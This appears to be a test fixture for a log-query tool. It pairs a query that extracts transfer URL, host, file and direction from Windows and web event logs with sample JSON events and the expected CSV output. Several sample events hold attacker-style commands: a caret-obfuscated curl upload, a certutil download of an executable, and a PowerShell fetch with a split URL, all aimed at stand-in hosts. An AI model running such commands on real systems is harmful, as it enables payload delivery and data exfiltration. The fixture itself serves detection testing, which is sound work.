# what is transferred, by log source: uploads, targets of files, where files came from, hosts of connections;
# codes, queries of WMI and names of namespaces are no hosts
--- query
* | fields transfer_url, transfer_host, transfer_file, transfer_direction
--- input e.json
{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\x\\curl.exe","CommandLine":"c^url -T s.txt http://0x7f.1/up/"}
{"Channel":"Security","EventID":4688,"NewProcessName":"C:\\x\\certutil.exe","CommandLine":"certutil -urlcache -f http://a.example/b.exe C:\\t\\c.exe"}
{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":3,"Image":"C:\\x\\curl.exe","DestinationIp":"192.0.2.7","DestinationHostname":"Files.example"}
{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":11,"Image":"C:\\x\\curl.exe","TargetFilename":"C:\\t\\c.exe"}
{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":15,"TargetFilename":"C:\\d\\c.exe:Zone.Identifier","Contents":"[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=http://r.example/\r\nHostUrl=http://B.example/c.exe\r\n"}
{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":22,"QueryName":"Files.example"}
{"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4104,"ScriptBlockText":"iwr ('ht'+'tp://a.example/x.ps1') -OutFile $env:TEMP\\x.ps1","ScriptBlockId":"1"}
{"ActionType":"ProcessCreated","DeviceName":"w","FileName":"curl.exe","ProcessCommandLine":"curl -O https://a.example/z.zip"}
{"ActionType":"FileCreated","DeviceName":"w","FileName":"z.zip","FolderPath":"C:\\d\\z.zip","FileOriginUrl":"https://a.example/z.zip"}
{"ActionType":"ConnectionSuccess","DeviceName":"w","RemoteIP":"192.0.2.7","RemoteUrl":"https://a.example/z.zip","InitiatingProcessCommandLine":"curl -O http://other.example/"}
{"url":"https://a.example/up/a.bin","method":"PUT","status":200,"client_ip":"10.0.0.1"}
{"Channel":"Microsoft-Windows-TerminalServices-RDPClient/Operational","EventID":1024,"Name":"Server Name","Value":"TS.example","CustomLevel":"Info"}
{"Channel":"Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational","EventID":227,"Name":"CUMRDPConnection","Value":2147500033}
{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":19,"Query":"SELECT * FROM Win32_Process"}
{"Provider_Name":"Microsoft-Windows-WMI-Activity","EventID":5860,"Query":"SELECT * FROM Win32_Process"}
{"Channel":"Security","EventID":4698,"TaskContent":"<Task xmlns=\"http://schemas.example/task\"><Command>a.exe</Command></Task>"}
--- output csv
transfer_url,transfer_host,transfer_file,transfer_direction
http://127.0.0.1/up/,127.0.0.1,s.txt,upload
http://a.example/b.exe,a.example,C:\t\c.exe,download
Files.example,files.example,,
,,C:\t\c.exe,
http://B.example/c.exe,b.example,C:\d\c.exe,
Files.example,files.example,,
http://a.example/x.ps1,a.example,$env:TEMP\x.ps1,download
https://a.example/z.zip,a.example,z.zip,download
https://a.example/z.zip,a.example,C:\d\z.zip,
https://a.example/z.zip,a.example,z.zip,
https://a.example/up/a.bin,a.example,a.bin,upload
TS.example,ts.example,,
,,,
,,,
,,,
,,,
